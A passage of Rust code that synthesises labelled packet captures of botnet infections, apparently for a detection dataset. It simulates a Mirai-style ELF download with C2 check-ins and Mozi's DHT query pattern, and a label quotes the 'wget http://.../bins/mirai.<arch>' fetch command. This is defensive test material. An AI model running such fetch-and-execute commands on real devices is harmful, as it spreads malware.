    Ok(Labels::new("trojan-elf-download", "botnet", "A device that runs a dropper: HTTP GET of /bins/mirai.arm7 whose response body starts with the ELF magic (96 KiB), then an HTTP POST check-in to a C2 on 8080 every ~5 minutes (±15 s) for 2 hours.")
        .family("trojan")
        .seven()
        .pcap("traffic.pcap")
        .host(dev, "infected", "device running a downloaded ELF trojan", Some(start))
        .c2(&format!("{}:80", ip(dl)))
        .c2(&format!("{}:8080", ip(c2)))
        .fact("the loader delivers the bot by wget http://.../bins/mirai.<arch> (or tftp, or echo)", &format!("{MIRAI_SRC}:loader/src/server.c:331-464; loader/src/headers/includes.h:27-34"), "H")
        .fact("ELF files start with 0x7f 'E' 'L' 'F'", "System V ABI / elf(5)", "H")
        .fact("HTTP POST check-in every ~5 minutes to a C2 on 8080", "modelling choice (generic trojan)", "L"))
}

/// The full MSS, for bodies whose first segment is captured whole.
const MSS_FULL: usize = crate::wire::MSS;

/// Bencoded KRPC query (BEP 5).
fn krpc(q: &str, id: &[u8; 20], extra: &[u8], t: u16) -> Vec<u8> {
    let mut m = b"d1:ad2:id20:".to_vec();
    m.extend_from_slice(id);
    m.extend_from_slice(extra);
    m.extend_from_slice(format!("e1:q{}:{q}1:t2:", q.len()).as_bytes());
    m.extend_from_slice(&t.to_be_bytes());
    m.extend_from_slice(b"1:v4:MO\x00\x011:y1:qe");
    m
}

/// Mozi: BitTorrent-DHT-style UDP to bootstrap nodes, then to many peers.
pub(crate) fn mozi(dir: &Path, rng: &mut Rng) -> io::Result<Labels> {
    let dev = [192, 168, 1, 28];
    let boots = [
        ([198, 51, 100, 81], "router.bittorrent.example"),
        ([198, 51, 100, 82], "dht.transmissionbt.example"),
        ([198, 51, 100, 83], "router.utorrent.example"),
    ];
    let start = BASE_US + 90 * SEC;
    let mut cap = Capture::new();
    let mut id = [0u8; 20];
    id[..6].copy_from_slice(b"888888");
    for b in id.iter_mut().skip(6) {
        *b = (rng.u16() & 0xff) as u8;
    }
    let dport = rng.ephemeral();
    let mut t = start;
    for (a, name) in boots {
        cap.dns(rng, t, dev, ROUTER, name, &[a], 300, 25_000);
        let mut target = [0u8; 20];
        target
            .iter_mut()
            .for_each(|b| *b = (rng.u16() & 0xff) as u8);
        let mut extra = b"6:target20:".to_vec();
        extra.extend_from_slice(&target);
        let q = krpc("find_node", &id, &extra, rng.u16());
        cap.udp(t + 50_000, dev, a, dport, 6881, &q);
        let mut r = b"d1:rd2:id20:".to_vec();
        r.extend_from_slice(&target);
        r.extend_from_slice(b"5:nodes208:");
        r.resize(r.len() + 208, 0x41);
        r.extend_from_slice(b"e1:t2:aa1:y1:re");
        cap.udp(t + 120_000, a, dev, 6881, dport, &r);
        t += 300_000;
    }
    // then peers: find_node / get_peers / ping to learned nodes at ~8 a second for 30 minutes;
    // about 40 % answer
    let end = start + 1800 * SEC;
    let mut peers: Vec<([u8; 4], u16)> = Vec::new();
    while t < end {
        let peer = if peers.len() < 3000 || rng.below(3) == 0 {
            let p = (rng.public_addr(), 1024 + rng.below(64_000) as u16);
            peers.push(p);
            p
        } else {
            peers
                .get(rng.below(peers.len() as u64) as usize)
                .copied()
                .unwrap_or((boots[0].0, 6881))
        };
        let kind = rng.below(10);
        let q = match kind {
            0..=4 => {
                let mut e = b"6:target20:".to_vec();
                (0..20).for_each(|_| e.push((rng.u16() & 0xff) as u8));
                krpc("find_node", &id, &e, rng.u16())
            }
            5..=7 => {
                let mut e = b"9:info_hash20:".to_vec();
                (0..20).for_each(|_| e.push((rng.u16() & 0xff) as u8));
                krpc("get_peers", &id, &e, rng.u16())
            }
            _ => krpc("ping", &id, b"", rng.u16()),
        };
        cap.udp(t, dev, peer.0, dport, peer.1, &q);
        if rng.below(10) < 4 {
            let mut r = b"d1:rd2:id20:".to_vec();
            r.extend_from_slice(&[0x38; 20]);
            r.extend_from_slice(b"e1:t2:aa1:y1:re");
            cap.udp(
                t + rng.range(40_000, 400_000),
                peer.0,
                dev,
                peer.1,
                dport,
                &r,
            );
        }
        t += rng.range(20_000, 230_000);
    }
    cap.write(&dir.join("traffic.pcap"))?;
    Ok(Labels::new("mozi", "botnet", "A router infected by Mozi: DNS for BitTorrent DHT bootstrap names, find_node to the bootstrap nodes on UDP 6881, then find_node/get_peers/ping to thousands of peers on random high ports at ~8 queries/s for 30 minutes, node ID prefixed 888888.")
        .family("mozi")
        .pcap("traffic.pcap")
        .host(dev, "infected", "router infected by Mozi", Some(start))
        .fact("Mozi builds its P2P network on the DHT protocol (ECDSA384 and XOR for integrity), reuses part of Gafgyt, spreads by telnet weak passwords and exploits", "https://www.darkreading.com/cybersecurity-analytics/new-botnet-uses-dht-as-its-foundation (quoting 360 Netlab)", "M")
        .fact("the DHT is the standard BitTorrent one (a custom table on top), so its traffic hides in normal DHT traffic", "https://www.darkreading.com/cybersecurity-analytics/new-botnet-uses-dht-as-its-foundation", "M")
        .fact("DHT bootstrap nodes router.bittorrent.com / router.utorrent.com / dht.transmissionbt.com on port 6881", "https://stackoverflow.com/questions/1181301/how-does-a-dht-in-a-bittorent-client-get-bootstrapped/1181385", "M")
        .fact("KRPC find_node/get_peers/ping, bencoded over UDP", "BEP 5 (https://web-production-4e80b.up.railway.app/page/Mainline_DHT summarises it)", "M")
        .fact("Mozi uses those public bootstrap nodes; node ID prefix 888888; ~8 queries/s", "recalled from 360 Netlab's write-up (not retrieved here); rate a modelling choice", "L")
        .note("No C2 addresses: Mozi has none (P2P); the with-indicators run gets an empty list.")
        .note("Mozi's telnet/exploit scanning is not modelled here: its scanner fingerprint was not available from a primary text."))
}
